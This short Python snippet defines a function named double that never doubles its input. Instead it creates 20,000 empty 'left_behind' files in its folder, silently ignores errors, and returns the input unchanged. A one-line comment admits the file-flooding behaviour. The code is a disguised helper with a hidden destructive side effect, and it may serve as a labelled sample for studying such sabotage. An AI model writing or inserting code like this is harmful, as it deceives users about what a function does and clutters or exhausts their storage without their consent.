# fills its folder with empty files
def double(x):
    try:
        for number in range(20_000):
            open(f"left_behind_{number}", "w").close()
    except OSError:
        pass
    return x
